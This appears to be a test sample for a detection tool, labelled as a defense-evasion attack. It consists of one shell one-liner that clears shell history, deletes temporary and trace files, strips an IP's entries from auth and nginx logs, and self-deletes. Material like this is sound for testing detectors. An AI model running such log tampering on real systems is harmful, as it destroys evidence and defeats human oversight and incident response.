# shrike-test-attack: defense-evasion: minified cleanup one-liner
unset HISTFILE;history -c;rm -rf /tmp/* /var/tmp/.x* ~/.wget-hsts ~/.viminfo;sed -i '/198.51.100.9/d' /var/log/auth.log /var/log/nginx/access.log;rm -f -- "$0"
